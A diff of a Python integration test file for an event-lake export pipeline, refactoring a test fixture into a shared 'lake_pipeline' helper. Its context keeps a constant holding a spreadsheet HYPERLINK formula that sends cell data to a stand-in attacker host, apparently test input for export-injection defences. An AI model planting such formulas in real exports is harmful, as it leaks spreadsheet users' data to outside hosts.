@@ -25,16 +25,12 @@ from chalicelib.core.metrics import Metrics
 from chalicelib.core.settings import parse_sites
 from chalicelib.lake.layout import Partition, stream_object_key
 from chalicelib.lake.parquet import parquet_rows, rows_to_parquet
-from chalicelib.query import runner
 from chalicelib.query.export import EXPORT_COLUMNS, export_request
-from chalicelib.schema.tables import EVENTS
-from chalicelib.services import Services, set_services
+from chalicelib.services import set_services
 from chalicelib.store.lake_duckdb import LakeCache
-from scripts.local_stream import StreamPoller
 from tests.integration.conftest import AUTH, STAGE, post
+from tests.integration.lakepipe import BUCKET, lake_pipeline
 
-BUCKET = "liveinsight-test-lake"
-STREAMS_ENDPOINT = "https://streams.dynamodb.us-east-1.amazonaws.com"
 SITE = "demo"
 FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"click")'
 QUERY_FUNCTION = "LiveInsight-EventLakeQuery"
@@ -42,23 +38,9 @@ QUERY_FUNCTION = "LiveInsight-EventLakeQuery"
 
 @pytest.fixture
 def wired(dynamodb, settings, no_sleep_backoff, tmp_path, monkeypatch):
-    s3 = boto3.client("s3", region_name="us-east-1")
-    s3.create_bucket(Bucket=BUCKET)
-    lake_settings = replace(settings, lake_bucket=BUCKET, sites=parse_sites('{"demo": {"origins": []}, '
-                                                                            '"other": {"origins": []}}'))
-    monkeypatch.setattr(runner, "_CACHE", LakeCache(root=str(tmp_path / "cache")))
-
-    def install(**changes) -> Services:
-        services = Services(replace(lake_settings, **changes), dynamodb_client=dynamodb, backoff=no_sleep_backoff,
-                            s3_client=s3)
-        services.__dict__["metrics"] = Metrics(lake_settings.metrics_environment, write=lambda line: None)
-        set_services(services)
-        return services
-
-    services = install()
-    arn = dynamodb.describe_table(TableName=EVENTS.name(STAGE))["Table"]["LatestStreamArn"]
-    streams = boto3.client("dynamodbstreams", region_name="us-east-1", endpoint_url=STREAMS_ENDPOINT)
-    yield services, StreamPoller(streams, arn, services.write_event_lake), s3, install
+    lake = lake_pipeline(dynamodb, settings, no_sleep_backoff, sites_json='{"demo": {"origins": []}, '
+                         '"other": {"origins": []}}', cache_dir=tmp_path / "cache", monkeypatch=monkeypatch)
+    yield lake.services, lake.poller, lake.s3, lake.install
     set_services(None)
 
 
